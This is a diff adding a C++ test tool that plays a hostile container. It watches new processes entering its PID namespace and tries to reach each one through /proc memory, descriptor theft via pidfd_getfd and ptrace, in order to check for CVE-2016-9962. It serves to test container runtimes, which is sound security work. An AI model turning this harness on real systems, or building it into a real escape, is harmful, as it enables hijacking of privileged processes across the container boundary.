@@ -1,0 +1,155 @@
+// pry PAYLOAD: lays hold of every process that appears in its pid namespace, in all the ways there
+// are, until that process executes PAYLOAD (a path without links). Prints what it got hold of
+// before, a line each time; with SIGTERM at last how many processes there were.
+//
+// A test tool: it is the container that attacks what enters it (CVE-2016-9962).
+#include <algorithm>
+#include <cerrno>
+#include <csignal>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <dirent.h>
+#include <fcntl.h>
+#include <string>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+namespace {
+
+volatile sig_atomic_t ended = 0;
+
+std::string in_proc(pid_t pid, const std::string& name) {
+  return "/proc/" + std::to_string(pid) + "/" + name;
+}
+
+// Empty, and errno set, if it can't be read.
+std::string link_of(const std::string& path) {
+  char target[256];
+  const ssize_t length = readlink(path.c_str(), target, sizeof target);
+  return length < 0 ? "" : std::string(target, static_cast<std::size_t>(length));
+}
+
+enum class Stage { Before, Executed, Gone };
+
+Stage stage_of(pid_t pid, const std::string& payload) {
+  const std::string exe = link_of(in_proc(pid, "exe"));
+  if (exe == payload) return Stage::Executed;
+  return exe.empty() && (errno == ENOENT || errno == ESRCH) ? Stage::Gone : Stage::Before;
+}
+
+class Attack {
+ public:
+  Attack(pid_t pid, int pidfd, const std::string& payload)
+      : pid_(pid), pidfd_(pidfd), payload_(payload) {}
+
+  // Whether there is still something to attack.
+  bool run() {
+    reach_root();
+    const std::string exe = link_of(in_proc(pid_, "exe"));
+    if (!exe.empty()) got("exe " + exe);
+    const std::string cwd = link_of(in_proc(pid_, "cwd"));
+    if (!cwd.empty()) got("cwd " + cwd);
+    list_descriptors();
+    const int memory = open(in_proc(pid_, "mem").c_str(), O_RDWR | O_CLOEXEC);
+    if (memory >= 0) got("mem");
+    close(memory);
+    take_descriptors();
+    if (ptrace(PTRACE_SEIZE, pid_, 0, 0) == 0) {
+      got("ptrace");
+      let_go();
+    }
+    return stage_of(pid_, payload_) == Stage::Before;
+  }
+
+ private:
+  // Only if it is certain that the process had not executed the payload by then.
+  void got(const std::string& what) {
+    if (stage_of(pid_, payload_) == Stage::Before) std::printf("%s\n", what.c_str());
+  }
+
+  void reach_root() {
+    struct stat theirs {};
+    struct stat ours {};
+    if (stat(in_proc(pid_, "root/").c_str(), &theirs) != 0 || stat("/", &ours) != 0) return;
+    const bool same = theirs.st_dev == ours.st_dev && theirs.st_ino == ours.st_ino;
+    got(same ? "root /" : "root OTHER");
+  }
+
+  void list_descriptors() {
+    DIR* folder = opendir(in_proc(pid_, "fd").c_str());
+    if (folder == nullptr) return;
+    while (const dirent* entry = readdir(folder)) {
+      if (entry->d_name[0] == '.') continue;
+      const std::string target = link_of(in_proc(pid_, std::string("fd/") + entry->d_name));
+      if (!target.empty()) got(std::string("fd ") + entry->d_name + " " + target);
+    }
+    closedir(folder);
+  }
+
+  void take_descriptors() {
+    for (int number = 0; number < 10; ++number) {
+      const long taken = syscall(SYS_pidfd_getfd, pidfd_, number, 0);
+      if (taken < 0) continue;
+      got("pidfd_getfd");
+      close(static_cast<int>(taken));
+    }
+  }
+
+  // Only what stands still can be let go.
+  void let_go() {
+    ptrace(PTRACE_INTERRUPT, pid_, 0, 0);
+    waitpid(pid_, nullptr, __WALL);
+    ptrace(PTRACE_DETACH, pid_, 0, 0);
+  }
+
+  pid_t pid_;
+  int pidfd_;
+  const std::string& payload_;
+};
+
+// The number that was given out last (proc_loadavg(5)).
+class LatestPid {
+ public:
+  pid_t pid() const {
+    char text[128]{};
+    if (pread(file_, text, sizeof text - 1, 0) < 0) return 0;
+    const char* last = std::strrchr(text, ' ');
+    return last == nullptr ? 0 : std::atoi(last);
+  }
+
+ private:
+  int file_ = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
+};
+
+}  // namespace
+
+int main(int, char** arguments) {
+  const std::string payload = arguments[1];
+  struct sigaction action {};
+  action.sa_handler = [](int) { ended = 1; };
+  sigaction(SIGTERM, &action, nullptr);
+  std::setvbuf(stdout, nullptr, _IOLBF, 0);
+  const LatestPid latest;
+  pid_t next = getpid() + 1;
+  long seen = 0;
+  std::puts("ready");
+  while (ended == 0) {
+    const int pidfd = static_cast<int>(syscall(SYS_pidfd_open, next, 0));
+    if (pidfd < 0) {
+      // It may have come and gone.
+      next = std::max(next, latest.pid());
+      continue;
+    }
+    Attack attack(next, pidfd, payload);
+    while (attack.run() && ended == 0) {
+    }
+    close(pidfd);
+    ++next;
+    ++seen;
+  }
+  std::printf("processes %ld\n", seen);
+}
